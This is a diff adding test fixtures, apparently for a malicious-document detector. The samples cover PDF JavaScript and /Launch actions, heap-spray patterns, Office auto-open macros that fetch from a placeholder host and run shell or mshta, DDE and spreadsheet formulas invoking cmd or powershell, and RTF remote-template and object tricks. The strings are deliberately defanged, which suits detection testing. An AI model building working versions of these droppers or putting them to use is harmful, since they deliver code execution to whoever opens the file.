@@ -136,3 +136,69 @@ PAIRS = {
         rtf("{\\object\\objemb{\\*\\objdata 01050000" + b"Package\0".hex() + b"invoice.txt\0".hex() + "}}"),
     ),
 }
+
+FLAT = '<?xml version="1.0"?>\n<?mso-application progid="Word.Document"?>\n'
+PACKAGE = '<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">{}</pkg:package>'
+DDE = "DDE¦AUTO c:\\\\windows\\\\system32\\\\msh¦ta.exe http://example.invalid/"
+
+ALSO = {
+    "PDF_OpenAction_JavaScript": [
+        b"junk before\n" + pdf(CATALOG.format("/AA << /O 3 0 R >>"), PAGES, "<< /S/Java¦Script/JS 4 0 R >>"),
+    ],
+    "PDF_JavaScript_Exploit_Pattern": [
+        pdf(CATALOG.format(""), PAGES, spray('util.prin¦tf\\("%45000f", 1\\);').replace("while", "until")),
+        pdf(CATALOG.format(""), PAGES, spray("this.media.newPla¦yer\\(null\\);").replace("while", "until")),
+        pdf(CATALOG.format(""), PAGES, spray("doc.getAn¦nots\\(a\\);").replace("while", "until")),
+        pdf(CATALOG.format(""), PAGES, spray("")),
+    ],
+    "PDF_Launch_Program": [pdf(CATALOG.format("/OpenAction 3 0 R"), PAGES, "<< /S/Lau¦nch /F (/bin/sh) >>")],
+    "PDF_Escaped_Action_Names": [
+        pdf(CATALOG.format("/#4fpenAction 3 0 R"), PAGES),
+        pdf(CATALOG.format("/Open#41ction 3 0 R"), PAGES),
+        pdf(CATALOG.format("/OpenAction 3 0 R"), PAGES, "<< /S /JavaScr#69pt >>".replace("cr#69pt", "cri#70t")),
+        pdf(CATALOG.format(""), PAGES, "<< /S /Java#53cript >>"),
+        pdf(CATALOG.format(""), PAGES, "<< /S /L#61unch >>"),
+    ],
+    "Office_AutoExec_Macro_Shell": [
+        ole(
+            text(
+                'Sub Workbook_Open()\r\nURLDownload¦ToFile 0, "http://example.invalid/", "a.txt", 0, 0\r\n'
+                'Shell "stage.txt"\r\n'
+            ),
+            names=("_VBA_PROJECT",),
+        ),
+        ole(
+            text('Sub Document_Open()\r\nGetObject("winmgmts:root\\cimv2:Win32_Pro¦cess").Create "msh¦ta x"\r\n'),
+            names=("_VBA_PROJECT",),
+        ),
+    ],
+    "Office_Remote_Template": [
+        text(
+            FLAT
+            + PACKAGE.format(
+                RELATION.format("attached¦Template", "https://example.invalid/t", ' TargetMode="External"')
+            )
+        ),
+    ],
+    "RTF_Remote_Template": [rtf("{\\*\\temp¦late \\u104?\\u116?\\u116?\\u112?\\u58?}")],
+    "Office_DDE_Command": [
+        rtf("{\\field{\\*\\fldinst " + DDE + "}}"),
+        text(FLAT + DOCUMENT.format(DDE)),
+        ole(text("\x13 " + DDE + " \x15")),
+    ],
+    "Spreadsheet_Text_DDE_Formula": [
+        text("@SUM(1+1)*cm¦d|' /c echo hello'!A0\n"),
+        text('"a";"+power¦shell|\'-c echo\'!A1"\n').replace(b'"+', b"+"),
+        text("=msex¦cel|'\\..\\..\\..\\Windows\\System32\\cm¦d.exe /c echo'!''\n"),
+    ],
+    "RTF_Equation_Editor_Object": [
+        rtf("{\\object\\objocx{\\*\\obj¦data 01050000" + "02CE0200" + "00000000C000000000000046}}"),
+    ],
+    "RTF_Link_Object_Download": [
+        rtf(
+            "{\\object\\obj¦update{\\*\\objdata "
+            "E0C9EA79F9BACE11"
+            "8C8200AA004BA90B" + wide_hex("https://example.invalid/a") + "}}"
+        ),
+    ],
+}
